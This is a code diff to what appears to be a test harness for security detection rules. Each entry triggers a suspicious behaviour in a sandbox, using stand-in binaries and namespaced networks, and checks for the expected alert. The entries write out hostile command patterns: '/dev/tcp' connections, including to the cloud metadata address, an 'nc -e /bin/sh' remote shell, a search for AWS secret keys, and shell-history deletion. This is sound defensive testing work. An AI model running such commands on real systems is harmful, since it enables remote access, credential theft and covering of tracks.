@@ -9,6 +9,13 @@ stand_in() { cp /bin/true "$1"; }
 shell_as() { cp "$(readlink -f "$(command -v bash)")" "$1"; }
 private() { unshare -m sh -euc "mount --make-rprivate /; $1"; }
 network() { unshare -n sh -euc "ip link set lo up; ip address add $1/32 dev lo; $2"; }
+# served ADDRESS PORT COMMAND: the same with someone who listens there.
+served() {
+  network "$1" "exec python3 -c '
+import socket, subprocess, sys
+server = socket.create_server((sys.argv[1], int(sys.argv[2])))
+subprocess.call([\"sh\", \"-c\", sys.argv[3]])' $1 $2 \"$3\""
+}
 cd "$1"
 """
 
@@ -95,12 +102,12 @@ BEHAVIOUR = {
     "Remove Bulk Data from Disk": ("stand_in shred; ./shred -u x", "command=shred -u x"),
     "Find AWS Credentials": ("grep aws_secret_access_key /dev/null || true", "command=grep aws_secret_access_key /dev/null"),
     "Disallowed SSH Connection Non Standard Port": (
-        'shell_as ssh; network 192.0.2.1 "./ssh -c \'</dev/tcp/192.0.2.1/443\' || true"', "->192.0.2.1:443"),
+        "shell_as ssh; served 192.0.2.1 443 \"./ssh -c '</dev/tcp/192.0.2.1/443'\"", "->192.0.2.1:443"),
     "Modify Shell Configuration File": ("cp /dev/null .bashrc", "/.bashrc"),
     "Schedule Cron Jobs": ("stand_in crontab; ./crontab -", "process=crontab"),
     "DB program spawned process": ("shell_as mysqld; ./mysqld -c 'ls; :'", "process=ls"),
     "System procs network activity": (
-        'network 192.0.2.1 "bash -c \'</dev/tcp/192.0.2.1/9\' || true"', "->192.0.2.1:9"),
+        "served 192.0.2.1 9 \"bash -c '</dev/tcp/192.0.2.1/9'\"", "->192.0.2.1:9"),
     "Launch Suspicious Network Tool on Host": ("stand_in nmap; ./nmap -sS", "command=nmap -sS"),
     "Delete or rename shell history": (": > .bash_history; rm .bash_history", "/.bash_history"),
     "Adding ssh keys to authorized_keys": (
@@ -132,7 +139,7 @@ BEHAVIOUR = {
     "Netcat Remote Code Execution in Container": (
         "stand_in nc; " + contained("./nc -e /bin/sh 127.0.0.1 1"), "command=nc -e /bin/sh 127.0.0.1 1"),
     "Contact EC2 Instance Metadata Service From Container": (
-        contained('network 169.254.169.254 "bash -c \'</dev/tcp/169.254.169.254/80\' || true"'), "->169.254.169.254:80"),
+        contained("served 169.254.169.254 80 \"bash -c '</dev/tcp/169.254.169.254/80'\""), "->169.254.169.254:80"),
     "Launch Suspicious Network Tool in Container": ("stand_in dig; " + contained("./dig x"), "command=dig x"),
     "Launch Remote File Copy Tools in Container": ("stand_in scp; " + contained("./scp a b:"), "command=scp a b:"),
     "Launch Ingress Remote File Copy Tools in Container": (
